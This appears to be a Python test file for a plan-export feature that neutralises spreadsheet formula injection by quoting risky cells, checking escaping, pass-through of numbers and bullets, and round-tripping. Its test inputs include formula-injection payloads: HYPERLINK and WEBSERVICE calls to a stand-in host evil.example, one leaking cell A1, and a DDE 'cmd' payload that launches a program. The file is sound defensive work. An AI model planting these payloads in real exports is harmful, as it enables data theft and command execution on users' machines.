"""What somebody typed does not run when a lead opens the export of a plan, and comes back as it was typed."""

import pytest
from hypothesis import given
from hypothesis import strategies as some

from handlers.plans.exporting import as_csv
from handlers.plans.formula_marks import marked, unmarked


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        "\t=1+1",
        '-1+HYPERLINK("https://evil.example/?"&A1,"click")',
        "-2 +cmd|' /C calc'!A0",
        '-A1&HYPERLINK("https://evil.example")',
        '+(1)+WEBSERVICE("https://evil.example")',
        "\uff1d1+1",
        "\uff0dSUM(A1)",
    ],
)
def test_what_a_spreadsheet_would_work_out_is_marked_as_text(typed: str) -> None:
    assert marked(typed) == f"'{typed}"


@pytest.mark.parametrize("typed", ["-5", "+44 (0)20 7946", "-5%", "- a point of a list", "-", "plain", "a = b", ""])
def test_numbers_bullets_and_plain_words_stay_as_they_are(typed: str) -> None:
    assert marked(typed) == typed


@given(some.text(max_size=60) | some.from_regex(r"\s?['=+@-][\w (|!&\"'=+-]{0,20}", fullmatch=True))
def test_what_was_marked_is_read_back_as_it_was(typed: str) -> None:
    assert unmarked(marked(typed)) == typed


def test_the_export_marks_every_cell() -> None:
    assert b'"\'-1+HYPERLINK(1,2)"' in as_csv([["Comment"], ["-1+HYPERLINK(1,2)"]])
